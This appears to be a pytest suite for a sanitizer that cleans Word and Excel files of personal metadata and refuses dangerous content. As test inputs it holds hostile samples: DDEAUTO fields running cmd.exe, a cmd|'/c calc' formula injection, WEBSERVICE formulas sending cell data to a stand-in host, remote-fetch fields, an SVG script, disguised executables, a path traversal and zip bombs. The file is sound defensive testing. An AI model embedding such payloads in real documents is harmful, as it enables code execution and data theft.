"""Documents of Word and Excel: what is read in them is kept, and nothing of who wrote them, or what they would do."""

import io
import zipfile
from collections.abc import Mapping
from posixpath import dirname, join, normpath
from typing import Final
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image as Drawing
from PIL import Image

from shared.application.files.cleaning import cleaned
from shared.domain.files.office import MOST_PARTS
from tests.files.making import photo
from tests.files.test_cleaning import refused

_OPEN_XML: Final = "application/vnd.openxmlformats-officedocument"
_KINDS: Final = "http://schemas.openxmlformats.org/package/2006/content-types"
_LINKS: Final = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SITI: Final = b"Siti Rahayu"


def _links(*links: tuple[str, str] | tuple[str, str, str]) -> bytes:
    told = "".join(
        f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}" '
        f"{''.join(f'TargetMode={each!r}' for each in mode)}/>"
        for number, (kind, target, *mode) in enumerate(links)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{_LINKS}">{told}</Relationships>'.encode()


def _kinds(**parts: str) -> bytes:
    defaults = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    told = "".join(f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in parts.items())
    return f'<?xml version="1.0"?><Types xmlns="{_KINDS}">{defaults}{told}</Types>'.encode()


def _parts(main: str = "document.main+xml", text: str = "Jalan rusak") -> dict[str, bytes]:
    """A letter as Word saves it: with its author, a remark, a photo, links, and the template on the author's disk."""
    body = f'<w:p><w:ins w:author="Siti Rahayu" w:id="1"><w:r><w:t>{text}</w:t></w:r></w:ins></w:p>'
    return {
        "[Content_Types].xml": _kinds(
            **{
                "/word/document.xml": f"{_OPEN_XML}.wordprocessingml.{main}",
                "/docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
                "/word/people.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.people+xml",
            }
        ),
        "_rels/.rels": _links((f"{_OFFICE}/officeDocument", "word/document.xml"), ("x/core", "docProps/core.xml")),
        "docProps/core.xml": b"<creator>Siti Rahayu</creator>",
        "word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="{_W}">{body}</w:document>'.encode(),
        "word/_rels/document.xml.rels": _links(
            (f"{_OFFICE}/image", "media/image1.jpeg"),
            (f"{_OFFICE}/hyperlink", "https://cilacapkab.go.id/", "External"),
            (f"{_OFFICE}/attachedTemplate", "file:///C:/Users/Siti%20Rahayu/Normal.dotm", "External"),
            (f"{_OFFICE}/image", "https://mata-mata.example/pixel.png", "External"),
            ("x/people", "people.xml"),
            ("x/customXml", "../customXml/item1.xml"),
        ),
        "word/people.xml": b"<people>Siti Rahayu</people>",
        "word/media/image1.jpeg": photo(),
        "customXml/item1.xml": b"<x>Siti Rahayu</x>",
    }


def _packed(parts: Mapping[str, bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, part in parts.items():
            packed.writestr(name, part)
    return written.getvalue()


def _spoilt(method: int) -> bytes:
    """Kinds pressed by a method that no office program uses, and damaged besides."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as packed:
        packed.writestr("[Content_Types].xml", _kinds())
    content = bytearray(written.getvalue())
    content[58:61] = b"\xff\xff\xff"
    return bytes(content)


def _unpacked(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        return {each: packed.read(each) for each in packed.namelist()}


def _leads_nowhere(parts: Mapping[str, bytes]) -> list[str]:
    """Links to parts that are not there, and kinds of such: an office program takes them for damage."""
    lost = [
        normpath(join(dirname(dirname(name)), link.attrib["Target"]))
        for name, part in parts.items()
        if name.endswith(".rels")
        for link in ET.fromstring(part)  # noqa: S314 - written by us
        if link.get("TargetMode") != "External"
    ]
    kinds = ET.fromstring(parts["[Content_Types].xml"])  # noqa: S314 - likewise
    told = [each.attrib.get("PartName", "").lstrip("/") for each in kinds]
    return [each for each in (*lost, *filter(None, told)) if each.lstrip("/") not in parts]


def test_a_letter_keeps_its_words_and_loses_who_wrote_it_where() -> None:
    """Author, colleagues, template, the place in a photo; a link that people follow stays, what fetches itself not."""
    sent = _packed(_parts())
    kept = cleaned(sent)
    parts = _unpacked(kept.content)
    with Image.open(io.BytesIO(parts["word/media/image1.jpeg"])) as image:
        exif = dict(image.getexif())

    assert ".docx" == kept.media_type.extension
    assert b"Jalan rusak" in parts["word/document.xml"]
    assert [] == [name for name, part in parts.items() if _SITI in part or b"Siti%20" in part or b"mata-mata" in part]
    assert b"https://cilacapkab.go.id/" in parts["word/_rels/document.xml.rels"]
    assert [] == _leads_nowhere(parts)
    assert {} == exif
    assert kept.content == cleaned(sent).content


def test_a_table_keeps_its_cells_and_loses_who_filled_them_in() -> None:
    """As a program for tables saves it, with a remark and a photo; it opens as before."""
    book = openpyxl.Workbook()
    book.properties.creator = "Siti Rahayu"
    sheet = book.worksheets[0]
    sheet.append(["Jalan", "Rusak"])
    sheet["A1"].comment = Comment("Sudah diukur", "Siti Rahayu")
    sheet.add_image(Drawing(io.BytesIO(photo())), "C3")
    written = io.BytesIO()
    book.save(written)

    kept = cleaned(written.getvalue())
    opened = openpyxl.load_workbook(io.BytesIO(kept.content)).worksheets[0]

    assert ".xlsx" == kept.media_type.extension
    assert [("Jalan", "Rusak")] == list(opened.values)[:1]
    assert "Sudah diukur" == opened["A1"].comment.text
    assert [] == [name for name, part in _unpacked(kept.content).items() if _SITI in part or b"Siti" in part]
    assert [] == _leads_nowhere(_unpacked(kept.content))


_FIELD: Final = (
    f'<w:document xmlns:w="{_W}"><w:instrText>{{}}</w:instrText><w:instrText>{{}}</w:instrText></w:document>'
)


def _instruction(text: str) -> str:
    """A field of Word's."""
    mark = '<w:fldChar w:fldCharType="{}"/>'
    return f"{mark.format('begin')}<w:instrText>{text}</w:instrText>{mark.format('end')}"


def _word(inside: str) -> dict[str, bytes]:
    return {"word/document.xml": f'<w:document xmlns:w="{_W}" xmlns:x="{_W}">{inside}</w:document>'.encode()}


def _formula(text: str) -> dict[str, bytes]:
    return {"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{text}</f></c></worksheet>".encode()}


@pytest.mark.parametrize(
    "more",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/embeddings/oleObject1.bin": b"x"},
        {"word/activeX/activeX1.xml": b"<x/>"},
        {"xl/externalLinks/externalLink1.xml": b"<x/>"},
        {"xl/connections.xml": b"<x/>"},
        {"word/afchunk.mht": b"<html>"},
        {"customUI/customUI.xml": b"<x/>"},
        {"word/media/image2.png": b"MZ" + bytes(200)},
        {"word/media/image2.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'},
        {"word/document.xml": _FIELD.format("DDEAUTO c:\\\\windows\\\\cmd.exe", "").encode()},
        {"word/document.xml": _FIELD.format(" INCLUDE", "PICTURE http://mata-mata.example/x").encode()},
        {"xl/worksheets/sheet2.xml": b"<worksheet><f>T[a'[b]&amp;WEBSERVICE(A1)&amp;T[c'[d]</f></worksheet>"},
        {
            "word/document.xml": b'<d xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://mata.example/"/></d>'
        },
        {"word/media/image2.svg": b'<svg><image href="data:image/jpeg;base64,eA=="/></svg>'},
        {"xl/drawings/drawing1.vml": b"<xml><br><script>alert(1)</script></xml>"},
        {"word/fonts/font1.ttf": b"MZ" + bytes(200)},
        {"word/_rels/document.xml.rels": _links((f"{_OFFICE}/oleObject", "x.doc", "External"))},
        _word("<x:instrText>DDEAUTO cmd</x:instrText>"),
        _word("<w:instrText>&#68;DEAUTO cmd</w:instrText>"),
        _word("<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>"),
        _word("<w:fldSimple w:instr='DDEAUTO cmd'/>"),
        _word(_instruction("</w:instrText>" + _instruction('QUOTE "DDE"') + "<w:instrText> cmd")),
        _word("<x:mailMerge><x:query x:val='SELECT'/></x:mailMerge>"),
        _formula("_xlfn.WEBSERVICE(&quot;http://mata-mata.example/&quot;&amp;A1)"),
        _formula("cmd|'/c calc'!A0"),
        {"word/drawing.vml": _word(_instruction("DDE cmd"))["word/document.xml"]},
    ],
    ids=str,
)
def test_what_carries_more_than_is_read_is_refused(more: dict[str, bytes]) -> None:
    """Programs, other files, and what is fetched or run when it is opened."""
    assert "file_carries_more" == refused(_packed({**_parts(), **more}))


@pytest.mark.parametrize(
    "more",
    [
        _word(_instruction('HYPERLINK "https://cilacapkab.go.id/link/import"') + _instruction(" PAGE ")),
        {"word/settings.xml": f'<w:x xmlns:w="{_W}"><w:mailMerge><w:query w:val="Siti"/></w:mailMerge></w:x>'.encode()},
        _formula("IF('Jalan|Desa'!A1=&quot;a|b&quot;,SUM(A1:A9),HYPERLINK(&quot;https://cilacapkab.go.id&quot;))"),
        {"word/fonts/Lato-regular.ttf": b"\x00\x01\x00\x00" + bytes(60)},
        {"xl/drawings/vmlDrawing1.vml": b"<xml><div>Baris<br>Baris</div></xml>"},
        {"xl/pivotCache/pivotCacheDefinition1.xml": b'<pivotCacheDefinition refreshedBy="Siti Rahayu"/>'},
    ],
    ids=str,
)
def test_what_office_programs_write_is_taken(more: dict[str, bytes]) -> None:
    """Links that are followed on purpose, letters to many, Google's fonts, a remark's lines."""
    kept = _unpacked(cleaned(_packed({**_parts(), **more})).content)

    assert {*more} <= {*kept}
    assert [] == [name for name, part in kept.items() if b"Siti" in part]


@pytest.mark.parametrize(
    "more",
    [
        {"../../etc/passwd": b"x"},
        {"/word/x.xml": b"<x/>"},
        {"word\\x.xml": b"<x/>"},
        {"WORD/DOCUMENT.XML": b"<x/>"},
        {"word/styles.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'},
        {"word/styles.xml": '<?xml version="1.0" encoding="UTF-16"?><x/>'.encode("utf-16")},
        {"word/_rels/document.xml.rels": b"<Relationships"},
    ],
    ids=str,
)
def test_what_no_office_program_writes_is_refused(more: dict[str, bytes]) -> None:
    """Ways out of the folder, a part twice, and what hides a part's text from whoever looks through it."""
    assert "file_damaged" == refused(_packed({**_parts(), **more}))


@pytest.mark.parametrize(
    "content",
    [
        _packed(_parts("document.macroEnabled.main+xml")),
        _packed(_parts("presentationml.presentation.main+xml")),
        _packed({"word/document.xml": b"<x/>"}),
        _packed({"[Content_Types].xml": b"<x"}),
        _spoilt(zipfile.ZIP_BZIP2),
        _spoilt(zipfile.ZIP_LZMA),
        _packed({**_parts(), **{f"word/x{number}.xml": b"" for number in range(MOST_PARTS)}}),
        _packed({"[Content_Types].xml": b"<!DOCTYPE x>" + _kinds()}),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    ],
    ids=[
        "macros",
        "slides",
        "no kinds",
        "kinds cut off",
        "BZIP2",
        "LZMA",
        "many parts",
        "kinds with a DTD",
        "locked, or of before 2007",
    ],
)
def test_what_is_no_such_document_is_of_no_kind_that_is_taken(content: bytes) -> None:
    """Whatever it is called."""
    assert "file_type_not_taken" == refused(content)


def test_what_unfolds_to_too_much_is_refused() -> None:
    """By its size, and where it lies about that."""
    giant = _packed({**_parts(), "word/styles.xml": b"<x>" + bytes(30_000_000)})
    told = len(b"<x>" + bytes(30_000_000)).to_bytes(4, "little")
    lying = giant.replace(told, (9).to_bytes(4, "little"))

    assert ["document_too_large", "file_damaged"] == [refused(each) for each in (giant, lying)]


def test_a_locked_part_is_told_as_locked() -> None:
    """By the mark in the ZIP's own list."""
    parts = _packed(_parts())
    at = parts.rindex(b"PK\x01\x02")
    locked = parts[: at + 8] + b"\x01" + parts[at + 9 :]

    assert "file_encrypted" == refused(locked)


_TOLD_ELSEWHERE: Final = {
    "_rels/.rels": _links(
        (f"{_OFFICE}/officeDocument", "word/document.xml"),
        ("http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "/meta/1.psmdcp"),
    ),
    "meta/1.psmdcp": b"<creator>Siti Rahayu</creator>",
    "word/comments.xml": f"<w:x xmlns:w='{_W}'><w:comment w:author='Siti Rahayu' w:id='1'/></w:x>".encode(),
    "word/settings.xml": f'<w:x xmlns:w="{_W}"><w:docVars><w:docVar w:val="Siti Rahayu"/></w:docVars></w:x>'.encode(),
}


def test_particulars_go_wherever_they_stand_and_words_that_look_so_stay() -> None:
    """By the document's own links, in either kind of quotes; what people write is theirs."""
    parts = {**_parts(text='kolom userName="budi"'), **_TOLD_ELSEWHERE}
    kept = _unpacked(cleaned(_packed(parts)).content)

    assert [] == [name for name, part in kept.items() if _SITI in part]
    assert b'userName="budi"' in kept["word/document.xml"]
    assert [] == _leads_nowhere(kept)


def test_a_photo_in_a_document_is_pixels_only() -> None:
    """Also what stands behind its end, as some telephones leave a second one there."""
    kept = _unpacked(cleaned(_packed({**_parts(), "word/media/image1.jpeg": photo() + photo()})).content)

    assert b"Siti" not in kept["word/media/image1.jpeg"]


_MATH: Final = "http://schemas.openxmlformats.org/officeDocument/2006/math"


@pytest.mark.parametrize(
    "more",
    [
        {
            "[Content_Types].xml": f'<Types xmlns="{_KINDS}"><Default Extension="xml" '
            f'ContentType="{_OPEN_XML}.wordprocessingml.document.main+xml"/></Types>'.encode()
        },
        {
            "[Content_Types].xml": _kinds(
                **{"/word/document.xml": f"{_OPEN_XML}.wordprocessingml.document.main+xml"}
            ).replace(b"<Default ", b'<Default Extension="bin" ContentType="x/oleObject"/><Default ', 1)
        },
        {"word/footnotes.xml": f'<x xmlns:m="{_MATH}"><m:f><m:num><m:t>|x|</m:t></m:num></m:f></x>'.encode()},
        {"word/media/image3.png": b""},
    ],
    ids=["by its ending", "a kind without a part", "a fraction", "an empty part"],
)
def test_what_office_programs_do_write_is_taken(more: dict[str, bytes]) -> None:
    """Each in its own way."""
    assert ".docx" == cleaned(_packed({**_parts(), **more})).media_type.extension
